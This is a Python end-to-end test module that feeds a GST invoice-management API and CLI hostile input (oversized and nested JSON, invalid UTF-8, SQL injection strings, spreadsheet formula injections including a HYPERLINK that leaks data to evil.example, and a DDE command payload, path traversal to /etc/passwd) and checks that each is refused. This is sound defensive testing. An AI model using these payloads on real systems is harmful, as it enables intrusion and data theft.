"""Hostile input: oversized, deeply nested, malformed and injected requests, hostile CLI paths, and a
property-based test that one recipient's random requests never reach another recipient.

Every refused request must get a clear 4xx (or a per-item error inside a 200 REQSTS answer, or a clear CLI
error) and change nothing: digests of the tables and the broker's end offsets are compared around it.
The last test may stop the IMS consumer when the product misbehaves, so it stays last in the module.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, replace
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.api import limits
from services.common.embedded.ports import free_port, wait_for_port
from services.common.gst.sections import SECTION_BY_KEY
from tests.support.ims_helpers import gstin, invoice
from tests.support.live import LiveStack, dumps, spawn_cli
from tests.support.processes import stop
from tests.support.security_helpers import (
    NOTHING_PUBLISHED_TABLES,
    bearer,
    changes,
    error_of,
    events_keyed,
    fresh_client,
    ims_many,
    ims_with_decoy,
    mount_namespace_available,
    recipient_digest,
    snapshot,
)

pytestmark = pytest.mark.e2e
JSON = {"Content-Type": "application/json"}
NOTHING_PUBLISHED = NOTHING_PUBLISHED_TABLES  # refused with per-item errors: logged, but nothing published


@dataclass
class Scene:
    stack: LiveStack
    supplier: str
    a: str  # the recipient whose token the hostile requests carry
    b: str  # another recipient of the same supplier: must never be touched
    a_docs: dict[str, dict[str, Any]]  # by inum
    b_docs: dict[str, dict[str, Any]]
    recipient_a: str  # tokens
    recipient_b: str
    filer: str

    def as_a(self) -> httpx.Client:
        return fresh_client(self.stack, self.recipient_a)

    def settle(self) -> None:
        self.stack.wait_projected()
        self.stack.wait_relayed()


def _docs(stack: LiveStack, recipient: str) -> dict[str, dict[str, Any]]:
    answer = stack.http.get(f"/v1/ims/{recipient}/documents")
    assert answer.status_code == 200, answer.text
    return {r["inum"]: r for records in answer.json()["invdata"].values() for r in records}


@pytest.fixture(scope="module")
def scene(live_stack: LiveStack) -> Iterator[Scene]:
    """One supplier's October GSTR-1 to recipients A (six invoices) and B (two), filed, projected, and
    the clock moved to 14-11-2025 so both have a generated GSTR-2B for 102025."""
    stack = live_stack
    supplier, a, b = gstin("27", "H"), gstin("29", "H"), gstin("33", "H")
    body = {
        "gstin": supplier,
        "fp": "102025",
        "b2b": [
            {"ctin": a, "inv": [invoice(f"HX/{n}", "05-10-2025", f"{1000 * n}.00", pos="29") for n in range(1, 7)]},
            {"ctin": b, "inv": [invoice(f"HB/{n}", "06-10-2025", f"{700 * n}.00", pos="33") for n in (1, 2)]},
        ],
    }
    filed = stack.post("/v1/returns/gstr1?status=filed&filed_on=2025-11-11", body)
    assert filed.status_code == 200 and filed.json()["status_cd"] == "P", filed.text
    stack.wait_projected()
    clock = stack.post("/v1/clock", {"date": "2025-11-14"})
    assert clock.status_code == 200, clock.text
    stack.wait_projected()
    assert stack.http.get(f"/v1/gstr2b/{a}/102025").status_code == 200
    yield Scene(
        stack,
        supplier,
        a,
        b,
        _docs(stack, a),
        _docs(stack, b),
        stack.token("recipient", a, subject="hostile@a"),
        stack.token("recipient", b, subject="victim@b"),
        stack.token("filer", supplier, subject="filer@supplier"),
    )


def _json_endpoints(scene: Scene) -> list[tuple[str, str]]:
    """(path, token) of every endpoint that reads a JSON body."""
    a, admin = scene.a, scene.stack.admin_token
    return [
        ("/v1/returns/gstr1?status=saved", scene.filer),
        ("/v1/imports/boe", scene.filer),
        (f"/v1/ims/{a}/actions", scene.recipient_a),
        (f"/v1/ims/{a}/actions/reset", scene.recipient_a),
        (f"/v1/ims/{a}/actions/bulk", scene.recipient_a),
        (f"/v1/ims/{a}/gstr3b/102025", scene.recipient_a),
        (f"/v1/ims/{a}/profile", scene.recipient_a),
        ("/v1/clock", admin),
    ]


def _post_raw(scene: Scene, path: str, token: str, content: Any, base_url: str | None = None) -> httpx.Response:
    with fresh_client(scene.stack, token, base_url) as client:
        return client.post(path, content=content, headers=JSON)


def _save_body(recipient: str, *records: dict[str, Any], reqtyp: str = "SAVE") -> dict[str, Any]:
    return {"rtin": recipient, "reqtyp": reqtyp, "invdata": {"b2b": list(records)}}


# Size -------------------------------------------------------------------------------------------------------
def test_bodies_over_the_configured_limit_are_refused_413_whether_declared_or_streamed(
    scene: Scene, tmp_path: Path
) -> None:
    stack, a = scene.stack, scene.a
    small = replace(stack.settings, max_body_bytes=2000, http_port=free_port())
    process = spawn_cli(small, tmp_path / "small-api.log", "api")
    failures: list[str] = []
    try:
        wait_for_port("127.0.0.1", small.http_port, 60, lambda: process.poll() is None)
        base = f"http://127.0.0.1:{small.http_port}"
        scene.settle()
        before = snapshot(stack)
        bodies = {
            "/v1/returns/gstr1?status=saved": {"gstin": scene.supplier, "fp": "102025"},
            "/v1/imports/boe": {"boe": []},
            f"/v1/ims/{a}/actions": _save_body(a),
            f"/v1/ims/{a}/actions/reset": _save_body(a, reqtyp="RESET"),
            f"/v1/ims/{a}/actions/bulk": {"action": "A", "filter": {}},
        }
        for path, body in bodies.items():
            token = scene.filer if "returns" in path or "boe" in path else scene.recipient_a
            big = dumps({**body, "pad": "x" * 3000}).encode()

            def streamed(data: bytes = big) -> Iterator[bytes]:  # no Content-Length: counted while read
                for start in range(0, len(data), 700):
                    yield data[start : start + 700]

            for how, content in (("declared", big), ("streamed", streamed())):
                answer = _post_raw(scene, path, token, content, base)
                if answer.status_code != 413 or "2000 bytes" not in error_of(answer).get("error_msg", ""):
                    failures.append(f"{path} ({how}, {len(big)} bytes): {answer.status_code} {answer.text[:200]}")
        # The fixed 4 KiB limit of the small bodies (GSTR-3B, clock, profile) on the ordinary API.
        for path, token in _json_endpoints(scene)[5:]:
            answer = _post_raw(scene, path, token, dumps({"pad": "y" * 5000}))
            if answer.status_code != 413:
                failures.append(f"{path} (5 KB): {answer.status_code} {answer.text[:200]}")
        failures += changes(before, snapshot(stack))
        # Within the limit the small API still answers.
        with fresh_client(stack, scene.recipient_a, base) as client:
            ok = client.get(f"/v1/ims/{a}/counts")
        assert ok.status_code == 200, ok.text
    finally:
        stop(process)
    assert not failures, "\n".join(failures)


# Nesting ----------------------------------------------------------------------------------------------------
def test_deeply_nested_json_is_refused_with_a_4xx_on_every_json_endpoint(scene: Scene) -> None:
    scene.settle()
    before = snapshot(scene.stack)
    hostile = {
        "100000 x [": "[" * 100_000,
        "100000 x {": '{"a":' * 100_000 + "1" + "}" * 100_000,
        "2000 x [ ]": "[" * 2000 + "]" * 2000,  # small enough for the 4 KiB endpoints
    }
    failures = []
    for path, token in _json_endpoints(scene):
        for name, body in hostile.items():
            answer = _post_raw(scene, path, token, body)
            message = error_of(answer).get("error_msg", "") if answer.status_code < 500 else ""
            streamed = path.startswith("/v1/returns/") and "must be a JSON object" in message  # refused at byte 1
            if answer.status_code not in (400, 413) or (
                answer.status_code == 400 and "nested" not in message and not streamed
            ):
                failures.append(f"{path} {name}: {answer.status_code} {answer.text[:200]}")
    failures += changes(before, snapshot(scene.stack))
    assert not failures, "\n".join(failures)


def test_nesting_inside_an_otherwise_valid_request_gets_a_4xx_or_a_per_item_error_never_a_5xx(scene: Scene) -> None:
    a, deep = scene.a, json.loads("[" * 300 + "]" * 300)
    doc = scene.a_docs["HX/1"]
    cases = [
        (f"/v1/ims/{a}/actions", scene.recipient_a, _save_body(a, {"doc_id": "b2b|x", "action": "A", "stin": deep})),
        (f"/v1/ims/{a}/actions", scene.recipient_a, _save_body(a, {"inum": deep, "idt": "05-10-2025", "action": "A"})),
        (f"/v1/ims/{a}/actions", scene.recipient_a, _save_body(a, {"doc_id": doc["doc_id"], "action": deep})),
        (f"/v1/ims/{a}/actions/reset", scene.recipient_a, _save_body(a, {"boenum": deep}, reqtyp="RESET")),
        (f"/v1/ims/{a}/actions/bulk", scene.recipient_a, {"action": "P", "remarks": deep}),
        (f"/v1/ims/{a}/actions/bulk", scene.recipient_a, {"action": "P", "filter": {"rtnprd": deep}}),
        (
            "/v1/returns/gstr1?status=saved",
            scene.filer,
            {"gstin": scene.supplier, "fp": "102025", "b2b": [{"ctin": a, "inv": [{"inum": deep}]}]},
        ),
        ("/v1/imports/boe", scene.filer, {"boe": [{"rtin": a, "boe_num": deep}]}),
    ]
    scene.settle()
    before = snapshot(scene.stack, NOTHING_PUBLISHED)
    failures = []
    for path, token, body in cases:
        answer = _post_raw(scene, path, token, dumps(body))
        if answer.status_code >= 500 or (answer.status_code == 200 and answer.json().get("proc_cnt") != 0):
            failures.append(f"{path} {dumps(body)[:120]}...: {answer.status_code} {answer.text[:200]}")
    failures += changes(before, snapshot(scene.stack, NOTHING_PUBLISHED))
    assert not failures, "\n".join(failures)


# Volume -----------------------------------------------------------------------------------------------------
def test_huge_arrays_within_the_limit_are_answered_promptly_with_per_item_errors(scene: Scene) -> None:
    a, n, s, b = scene.a, 40_000, limits.SAVE.records or 0, limits.BOE.records or 0  # s, b: records a request may hold
    cases = [
        (f"/v1/ims/{a}/actions", scene.recipient_a, dumps(_save_body(a, *[{"doc_id": "b2b|x", "action": "A"}] * s)), s),
        (
            "/v1/returns/gstr1?status=saved",
            scene.filer,
            dumps({"gstin": scene.supplier, "fp": "102025", "b2b": [{"ctin": a, "inv": [{}] * n}]}),
            n,
        ),
        ("/v1/imports/boe", scene.filer, dumps({"boe": [{}] * b}), b),
        (f"/v1/ims/{a}/actions", scene.recipient_a, "[" + ",".join(["0"] * 1_000_000) + "]", None),
        (f"/v1/ims/{a}/actions/bulk", scene.recipient_a, dumps({"action": "A", "filter": [0] * 200_000}), None),
    ]
    scene.settle()
    before = snapshot(scene.stack, NOTHING_PUBLISHED)
    failures = []
    for path, token, body, items in cases:
        started = time.monotonic()
        answer = _post_raw(scene, path, token, body)
        took = time.monotonic() - started
        what = f"{path} ({len(body) // 1000} kB)"
        if took > 30:
            failures.append(f"{what}: took {took:.0f}s")
        if items is None:
            if answer.status_code not in (400, 413):
                failures.append(f"{what}: expected 400 or 413, got {answer.status_code} {answer.text[:200]}")
        elif answer.status_code != 200 or (answer.json()["err_cnt"], answer.json()["proc_cnt"]) != (items, 0):
            failures.append(f"{what}: {answer.status_code} {answer.text[:200]}")
    failures += changes(before, snapshot(scene.stack, NOTHING_PUBLISHED))
    assert not failures, "\n".join(failures)


# Encoding ---------------------------------------------------------------------------------------------------
def test_invalid_utf8_is_refused_400_on_every_json_endpoint(scene: Scene) -> None:
    scene.settle()
    before = snapshot(scene.stack)
    bodies = {
        "0xff": b'{"rtin": "\xff"}',
        "overlong /": b'{"rtin": "\xc0\xaf"}',
        "encoded surrogate": b'{"remarks": "\xed\xa0\x80"}',
        "truncated sequence": b'{"fp": "\xe2\x82"}',
        "UTF-16": '{"gstin": "x"}'.encode("utf-16"),
    }
    failures = []
    for path, token in _json_endpoints(scene):
        for name, body in bodies.items():
            answer = _post_raw(scene, path, token, body)
            if answer.status_code != 400 or "UTF-8" not in error_of(answer).get("error_msg", ""):
                failures.append(f"{path} {name}: {answer.status_code} {answer.text[:200]}")
    failures += changes(before, snapshot(scene.stack))
    assert not failures, "\n".join(failures)


def test_escaped_lone_surrogates_in_text_fields_get_a_clear_error_never_a_5xx(scene: Scene) -> None:
    """`"\\ud800"` is valid UTF-8 JSON text but no Unicode character: it cannot be stored or published."""
    a, doc = scene.a, scene.a_docs["HX/2"]
    cases = [
        (f"/v1/ims/{a}/actions", scene.recipient_a, _save_body(a, {"doc_id": "b2b|\ud800", "action": "A"})),
        (
            f"/v1/ims/{a}/actions",
            scene.recipient_a,
            _save_body(a, {"doc_id": doc["doc_id"], "hash": doc["hash"], "action": "R", "remarks": "bad \ud800"}),
        ),
        (f"/v1/ims/{a}/actions/bulk", scene.recipient_a, {"action": "P", "remarks": "bad \udfff", "filter": {}}),
        (
            "/v1/returns/gstr1?status=saved",
            scene.filer,
            {"gstin": scene.supplier, "fp": "102025", "b2b": [{"ctin": a, "inv": [{"inum": "HX\ud800"}]}]},
        ),
        ("/v1/imports/boe", scene.filer, {"boe": [{"rtin": a, "boe_num": "\ud800", "port_code": "\udc00"}]}),
        (f"/v1/ims/{a}/profile", scene.recipient_a, {"frequency": "\ud800"}),
    ]
    scene.settle()
    before = snapshot(scene.stack, NOTHING_PUBLISHED)
    failures = []
    for path, token, body in cases:
        answer = _post_raw(scene, path, token, json.dumps(body))  # ensure_ascii: the escape goes on the wire
        if answer.status_code >= 500 or (answer.status_code == 200 and answer.json().get("proc_cnt") != 0):
            failures.append(f"{path} {json.dumps(body)[:140]}: {answer.status_code} {answer.text[:200]}")
    failures += changes(before, snapshot(scene.stack, NOTHING_PUBLISHED))
    assert not failures, "\n".join(failures)


def test_wrongly_typed_and_out_of_range_values_get_a_4xx_or_a_per_item_error_never_a_5xx(scene: Scene) -> None:
    a, st_ = scene.a, scene.supplier
    ra = scene.recipient_a
    posts = [
        (f"/v1/ims/{a}/actions/bulk", ra, {"action": "A", "filter": {"section": []}}),
        (f"/v1/ims/{a}/actions/bulk", ra, {"action": "A", "filter": {"section": {"b2b": 1}}}),
        (f"/v1/ims/{a}/actions/bulk", ra, {"action": "A", "filter": {"status": ["A"]}}),
        (f"/v1/ims/{a}/actions/bulk", ra, {"action": "A", "filter": {"stin": 27}}),
        (f"/v1/ims/{a}/actions/bulk", ra, {"action": "A", "filter": {"rtnprd": 102025}}),
        (f"/v1/ims/{a}/actions/bulk", ra, {"action": ["A"], "filter": {}}),
        (f"/v1/ims/{a}/actions", ra, _save_body(a, {"stin": st_, "inum": "HX/9", "idt": "05-10-99999999999999999999"})),
        (
            f"/v1/ims/{a}/actions",
            ra,
            _save_body(a, {"stin": st_, "inum": "HX/9", "idt": "99999999999999999999-10-2025"}),
        ),
        (f"/v1/ims/{a}/actions", ra, _save_body(a, {"stin": st_, "inum": "HX/9", "idt": "-1--1--1"})),
        (f"/v1/ims/{a}/actions", ra, {"rtin": a, "reqtyp": "SAVE", "invdata": {"b2b": "HX/1"}}),
        (f"/v1/ims/{a}/actions", ra, {"rtin": a, "reqtyp": "SAVE", "invdata": [["b2b"]]}),
        (f"/v1/ims/{a}/actions", ra, {"rtin": [a], "reqtyp": "SAVE", "invdata": {}}),
        (f"/v1/ims/{a}/gstr3b/102025", ra, {"filed_on": 20251120}),
        (f"/v1/ims/{a}/profile", ra, {"frequency": ["monthly"]}),
        ("/v1/clock", scene.stack.admin_token, {"date": "99999-01-01"}),
        ("/v1/returns/gstr1?status=filed&filed_on=2025-13-45", scene.filer, {"gstin": st_, "fp": "102025"}),
        ("/v1/returns/gstr1?status=shredded", scene.filer, {"gstin": st_, "fp": "102025"}),
        ("/v1/returns/gstr1?status=saved", scene.filer, {"gstin": st_, "fp": 102025}),
        ("/v1/returns/gstr1?status=saved", scene.filer, {"gstin": st_, "fp": "102025", "b2b": {"ctin": a}}),
        ("/v1/imports/boe", scene.filer, {"boe": [{"rtin": a, "boe_num": 10**40}]}),
    ]
    gets = [
        f"/v1/ims/{a}/documents?limit=abc",
        f"/v1/ims/{a}/documents?limit=-1",
        f"/v1/ims/{a}/documents?as_of=9999-99-99T99:99:99Z",
        f"/v1/ims/{a}/counts?as_of=not-a-time",
        f"/v1/ims/{a}/counts?rtnprd=1e5",
        f"/v1/gstr2b/{a}/102025?version=-1",
        f"/v1/gstr2b/{a}/102025?version={10**30}",
        f"/v1/gstr2b/{a}/102025/diff?from=abc&to=1",
        f"/v1/gstr2b/{a}/1e2025",
    ]
    scene.settle()
    before = snapshot(scene.stack, NOTHING_PUBLISHED)
    failures = []
    for path, token, body in posts:
        answer = _post_raw(scene, path, token, dumps(body))
        if answer.status_code >= 500 or (
            answer.status_code == 200 and "proc_cnt" in answer.json() and answer.json()["proc_cnt"]
        ):
            failures.append(f"POST {path} {dumps(body)[:120]}: {answer.status_code} {answer.text[:160]}")
    with scene.as_a() as client:
        for path in gets:
            answer = client.get(path)
            if not 400 <= answer.status_code < 500:
                failures.append(f"GET {path}: {answer.status_code} {answer.text[:160]}")
    failures += changes(before, snapshot(scene.stack, NOTHING_PUBLISHED))
    assert not failures, "\n".join(failures)


# Amounts ----------------------------------------------------------------------------------------------------
def _row(inum: str, field: str, value: Any) -> dict[str, Any]:
    row = invoice(inum, "07-10-2025", "1000.00", pos="29")
    if field == "val":
        row["val"] = value
    else:
        row["itms"][0]["itm_det"][field] = value
    return row


def test_nan_infinity_negative_and_oversized_amounts_are_per_document_errors_naming_the_field(scene: Scene) -> None:
    bad = {
        "NA/1": ("txval", "NaN"),
        "NA/2": ("iamt", "Infinity"),
        "NA/3": ("csamt", "-Infinity"),
        "NA/4": ("txval", Decimal("-5.00")),
        "NA/5": ("val", 123456789012345678901234567890),
        "NA/6": ("iamt", Decimal("1E+400")),
        "NA/7": ("txval", Decimal("0.001")),
        "NA/8": ("val", True),
        "NA/9": ("iamt", [1]),
    }
    rows = [_row(inum, field, value) for inum, (field, value) in bad.items()]
    body = {"gstin": scene.supplier, "fp": "102025", "b2b": [{"ctin": scene.a, "inv": rows}]}
    scene.settle()
    before = snapshot(scene.stack, NOTHING_PUBLISHED)
    answer = _post_raw(scene, "/v1/returns/gstr1?status=saved", scene.filer, dumps(body))
    assert answer.status_code == 200, answer.text
    result = answer.json()
    assert (result["proc_cnt"], result["err_cnt"]) == (0, len(bad)), result
    reported = {row["inum"]: row for row in result["error_report"]["b2b"]}
    for inum, (field, _) in bad.items():
        assert reported[inum]["error_cd"] == "INVALID_AMOUNT", reported[inum]
        assert field in reported[inum]["error_msg"], reported[inum]

    # Bare NaN / Infinity literals are not JSON: the whole body is refused, naming the constant.
    for literal in ("NaN", "Infinity", "-Infinity"):
        one = {**body, "b2b": [{"ctin": scene.a, "inv": [_row("NB/1", "txval", "@@")]}]}
        raw = dumps(one).replace('"@@"', literal)
        refused = _post_raw(scene, "/v1/returns/gstr1?status=saved", scene.filer, raw)
        assert refused.status_code == 400 and literal.lstrip("-") in error_of(refused)["error_msg"], refused.text

    # The same amounts as declared reductions in a SAVE: per-item errors naming the field.
    doc = scene.a_docs["HX/3"]
    records = [
        {"doc_id": doc["doc_id"], "hash": doc["hash"], "action": "A", "itcRedReq": "Y", field: value}
        for field, value in (
            ("declIgst", "NaN"),
            ("declCgst", Decimal("-1")),
            ("declSgst", 10**30),
            ("declCess", Decimal("1E+400")),
        )
    ]
    for record in records:
        saved = _post_raw(scene, f"/v1/ims/{scene.a}/actions", scene.recipient_a, dumps(_save_body(scene.a, record)))
        assert saved.status_code == 200 and saved.json()["proc_cnt"] == 0, saved.text
        (error,) = saved.json()["error_report"]["b2b"]
        field = next(k for k in record if k.startswith("decl"))
        assert field in error["error_msg"], error
    assert changes(before, snapshot(scene.stack, NOTHING_PUBLISHED)) == []


# Injection --------------------------------------------------------------------------------------------------
def _cursor(*parts: str) -> str:
    return base64.urlsafe_b64encode(json.dumps(list(parts)).encode()).decode().rstrip("=")


def test_sql_injection_in_query_parameters_and_path_segments_reads_nothing_extra_and_changes_nothing(
    scene: Scene,
) -> None:
    a, b = scene.a, scene.b
    b_numbers = list(scene.b_docs)
    scene.settle()
    before = snapshot(scene.stack)
    failures = []
    with scene.as_a() as client:
        control = client.get(f"/v1/ims/{a}/documents", params={"q": "hx/"})
        assert control.status_code == 200 and len(control.json()["invdata"]["b2b"]) == 6, control.text
        for q in ("' OR 1=1--", "' OR '1'='1", "%", "_", "\\", "%' OR 1=1;--", "'; DROP TABLE x"):
            answer = client.get(f"/v1/ims/{a}/documents", params={"q": q})
            if answer.status_code != 200 or answer.json()["invdata"] != {}:
                failures.append(f"q={q!r}: {answer.status_code} {answer.text[:200]}")
        for cursor in (
            "' OR 1=1 --",
            _cursor("b2b' OR '1'='1", "x"),
            _cursor("b2b", "x'); DELETE FROM ims_documents; --"),
            _cursor("' UNION SELECT * FROM api_tokens --", ""),
        ):
            answer = client.get(f"/v1/ims/{a}/documents", params={"cursor": cursor})
            leaked = [n for n in b_numbers if n in answer.text]
            if answer.status_code >= 500 or leaked or (answer.status_code == 200 and answer.json()["rtin"] != a):
                failures.append(f"cursor={cursor!r}: {answer.status_code} {answer.text[:200]}")
        for name, value in (
            ("section", "b2b' OR '1'='1"),
            ("status", "A' OR 1=1--"),
            ("stin", f"{b}' OR '1'='1"),
            ("stin", "' OR 1=1--"),
            ("rtnprd", "102025' OR 1=1--"),
            ("as_of", "2025-11-01' OR 1=1--"),
            ("format", "csv' OR 1=1"),
        ):
            answer = client.get(f"/v1/ims/{a}/documents", params={name: value})
            if not 400 <= answer.status_code < 500:
                failures.append(f"{name}={value!r}: {answer.status_code} {answer.text[:200]}")
        injected = quote("x' OR '1'='1", safe="")
        for path, allowed in (
            (f"/v1/ims/{a}/documents/{injected}/history", (200, 404)),
            (f"/v1/ims/{a}/documents/b2b|{scene.supplier}|2025|{injected}/history", (200, 404)),
            (f"/v1/ims/{a}/requests/{injected}", (404,)),
            (f"/v1/gstr2b/{a}/{quote('102025 OR 1=1', safe='')}", (400,)),
            (f"/v1/ims/{quote(a + chr(39) + ' OR 1=1--', safe='')}/counts", (400, 403)),
        ):
            answer = client.get(path)
            if answer.status_code not in allowed or (answer.status_code == 200 and answer.json()["events"] != []):
                failures.append(f"GET {path}: {answer.status_code} {answer.text[:200]}")
    failures += changes(before, snapshot(scene.stack))
    assert not failures, "\n".join(failures)


def test_nul_characters_in_query_and_path_parameters_never_cause_a_5xx(scene: Scene) -> None:
    a = scene.a
    scene.settle()
    before = snapshot(scene.stack)
    failures = []
    with scene.as_a() as client:
        for path, params in (
            (f"/v1/ims/{a}/documents", {"q": "HX\x00"}),
            (f"/v1/ims/{a}/documents", {"cursor": _cursor("b2b", "HX\x00")}),
            (f"/v1/ims/{a}/documents", {"stin": "\x00"}),
            (f"/v1/ims/{a}/documents", {"section": "b2b\x00"}),
            (f"/v1/ims/{a}/counts", {"as_of": "2025-11-01T00:00:00\x00Z"}),
            (f"/v1/ims/{a}/documents/b2b%00x/history", {}),
            (f"/v1/ims/{a}/requests/ref%00x", {}),
            (f"/v1/gstr2b/{a}/1020%0025", {}),
        ):
            answer = client.get(path, params=params)
            if answer.status_code >= 500:
                failures.append(f"GET {path} {params}: {answer.status_code} {answer.text[:120]}")
    failures += changes(before, snapshot(scene.stack))
    assert not failures, "\n".join(failures)


def test_sql_injection_in_document_numbers_is_refused_and_in_remarks_is_stored_as_plain_text(scene: Scene) -> None:
    stack, a = scene.stack, scene.a
    numbers = ["1'; DROP TABLE x", "X' OR '1'='1", "A1;DELETE--", "A1/**/OR/**/1"]
    body = {
        "gstin": scene.supplier,
        "fp": "102025",
        "b2b": [{"ctin": a, "inv": [invoice(n, "08-10-2025", "100.00", pos="29") for n in numbers]}],
    }
    scene.settle()
    before = snapshot(stack, NOTHING_PUBLISHED)
    answer = _post_raw(scene, "/v1/returns/gstr1?status=filed&filed_on=2025-11-12", scene.filer, dumps(body))
    assert answer.status_code == 200, answer.text
    result = answer.json()
    assert (result["proc_cnt"], result["err_cnt"]) == (0, len(numbers)), result
    assert {r["error_cd"] for r in result["error_report"]["b2b"]} == {"INVALID_NUMBER"}
    assert changes(before, snapshot(stack, NOTHING_PUBLISHED)) == []

    b_before, documents = recipient_digest(stack, scene.b), stack.scalar("SELECT count(*) FROM ims_documents")
    remark = "'); DELETE FROM ims_documents; --"
    doc = scene.a_docs["HX/1"]
    saved = _post_raw(
        scene,
        f"/v1/ims/{a}/actions",
        scene.recipient_a,
        dumps(_save_body(a, {"doc_id": doc["doc_id"], "hash": doc["hash"], "action": "R", "remarks": remark})),
    )
    assert saved.status_code == 200 and saved.json()["status_cd"] == "P", saved.text
    stack.wait_projected()
    with scene.as_a() as client:
        listing = client.get(f"/v1/ims/{a}/documents", params={"q": "HX/1"}).json()["invdata"]["b2b"]
    assert [(d["inum"], d["action"], d["remarks"]) for d in listing] == [("HX/1", "R", remark)]
    assert stack.scalar("SELECT count(*) FROM ims_documents") == documents
    assert recipient_digest(stack, scene.b) == b_before


FORMULAS = {
    "HX/2": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "HX/3": "+SUM(1,2)",
    "HX/4": "-2+3+cmd|' /C calc'!A0",
    "HX/5": "@SUM(A1:A9)",
    "HX/6": "\t=1+2",
}


def test_csv_and_xlsx_downloads_neutralise_formulas_in_remarks_and_numbers_cannot_carry_them(
    scene: Scene,
) -> None:
    stack, a = scene.stack, scene.a
    with scene.as_a() as client:
        current = {d["inum"]: d for d in client.get(f"/v1/ims/{a}/documents").json()["invdata"]["b2b"]}
        records = [
            {"doc_id": current[n]["doc_id"], "hash": current[n]["hash"], "action": "P" if i % 2 else "R", "remarks": r}
            for i, (n, r) in enumerate(FORMULAS.items())
        ]
        saved = client.post(f"/v1/ims/{a}/actions", content=dumps(_save_body(a, *records)), headers=JSON)
        assert saved.status_code == 200 and saved.json()["status_cd"] == "P", saved.text
        # Document numbers are the other free text in a download; a formula is not a document number.
        numbers = ["=1+2", "+1", "-1", "@A1", "=HYPERLINK(1)"]
        filed = client.post(
            "/v1/returns/gstr1?status=saved",
            content=dumps(
                {
                    "gstin": scene.supplier,
                    "fp": "102025",
                    "b2b": [{"ctin": a, "inv": [invoice(n, "09-10-2025", "10.00") for n in numbers]}],
                }
            ),
            headers={**JSON, **bearer(scene.filer)},
        )
        assert filed.status_code == 200 and filed.json()["err_cnt"] == len(numbers), filed.text
        assert {r["error_cd"] for r in filed.json()["error_report"]["b2b"]} == {"INVALID_NUMBER"}
        stack.wait_projected()
        download = client.get(f"/v1/ims/{a}/documents", params={"format": "csv"})
        workbook = client.get(f"/v1/ims/{a}/documents", params={"format": "xlsx"})
    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv"), download.text
    rows = list(csv.DictReader(io.StringIO(download.text)))
    by_number = {r["inum"]: r for r in rows}
    for number, remark in FORMULAS.items():
        assert by_number[number]["remarks"] == "'" + remark, by_number[number]
    dangerous = [(r["inum"], k, v) for r in rows for k, v in r.items() if v and v[0] in "=+-@\t\r"]
    assert dangerous == [], dangerous

    assert workbook.status_code == 200, workbook.text
    with zipfile.ZipFile(io.BytesIO(workbook.content)) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets), "the workbook holds formulas"
    cells = "".join(sheets)
    for remark in FORMULAS.values():
        escaped = remark.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert f">'{escaped}<" in cells, remark


# CLI paths --------------------------------------------------------------------------------------------------
def test_ims_file_refuses_paths_that_are_not_regular_json_files_without_hanging(scene: Scene, tmp_path: Path) -> None:
    fifo = tmp_path / "return.fifo"
    os.mkfifo(fifo)
    (tmp_path / "zero.json").symlink_to("/dev/zero")
    (tmp_path / "empty.json").write_bytes(b"")
    system_file = "../../etc/shadow" if Path("/etc/shadow").exists() else "../../etc/passwd"
    paths = {
        "directory": str(tmp_path),
        "/dev/zero": "/dev/zero",
        "symlink to /dev/zero": str(tmp_path / "zero.json"),
        "fifo": str(fifo),
        "missing": "../../no/such/dir/../../etc/nothing-here",
        "traversal to a system file": system_file,
        "empty file": str(tmp_path / "empty.json"),
    }
    scene.settle()
    before = snapshot(scene.stack)
    started = time.monotonic()
    runs = ims_many(
        scene.stack, {name: ["file", path, "--form", "gstr1", "--status", "saved"] for name, path in paths.items()}, 30
    )
    failures = []
    for name, (code, out, err) in runs.items():
        if code is None:
            failures.append(f"ims file {paths[name]} ({name}): still running after 30 s")
        elif code == 0 or "ims file:" not in err or "Traceback" in err or out:
            failures.append(
                f"ims file {paths[name]} ({name}): exit {code}, stdout {out[:100]!r}, stderr {err[-300:]!r}"
            )
        elif "root:" in err:
            failures.append(f"ims file {paths[name]} ({name}) echoes the file's contents: {err[-300:]!r}")
    assert time.monotonic() - started < 45
    failures += changes(before, snapshot(scene.stack))
    assert not failures, "\n".join(failures)


def test_ims_gstr2b_output_refuses_system_files_directories_devices_and_missing_directories(
    scene: Scene, tmp_path: Path
) -> None:
    a = scene.a
    written = tmp_path / "gstr2b.json"
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    argv = ["gstr2b", a, "102025", "--output"]
    runs = ims_many(
        scene.stack,
        {
            "a new file": [*argv, str(written)],
            "a directory": [*argv, str(tmp_path)],
            "/dev/null": [*argv, "/dev/null"],
            "a fifo": [*argv, str(fifo)],
            "a missing directory": [*argv, str(tmp_path / "no" / "such" / "dir" / "x.json")],
        },
        30,
    )
    code, _, err = runs.pop("a new file")
    assert code == 0, err
    assert json.loads(written.read_text())["data"]["gstin"] == a
    failures = []
    for name, (code, _out, err) in runs.items():
        if code in (0, None) or "ims gstr2b:" not in err or "--output" not in err or "Traceback" in err:
            failures.append(f"--output {name}: exit {code}, stderr {err[-300:]!r}")

    # /etc/passwd, directly, through ../.., and through a symlink. The real file is never at risk: the
    # command runs in a private mount namespace where a decoy is bind-mounted over it.
    if mount_namespace_available():
        decoy = tmp_path / "passwd-decoy"
        original = b"root:x:0:0:root:/root:/bin/sh\n"
        decoy.write_bytes(original)
        (tmp_path / "innocent.json").symlink_to("/etc/passwd")
        for name, target in (
            ("/etc/passwd", "/etc/passwd"),
            ("../../etc/passwd", "../../etc/passwd"),
            ("a symlink to /etc/passwd", str(tmp_path / "innocent.json")),
        ):
            run = ims_with_decoy(scene.stack, decoy, "/etc/passwd", *argv, target, timeout=30)
            if decoy.read_bytes() != original:
                failures.append(f"--output {name}: the command overwrote /etc/passwd (exit {run.returncode})")
                decoy.write_bytes(original)
            elif run.returncode == 0 or "ims gstr2b:" not in run.stderr:
                failures.append(f"--output {name}: exit {run.returncode}, stderr {run.stderr[-300:]!r}")
    assert not failures, "\n".join(failures)


# Property ---------------------------------------------------------------------------------------------------
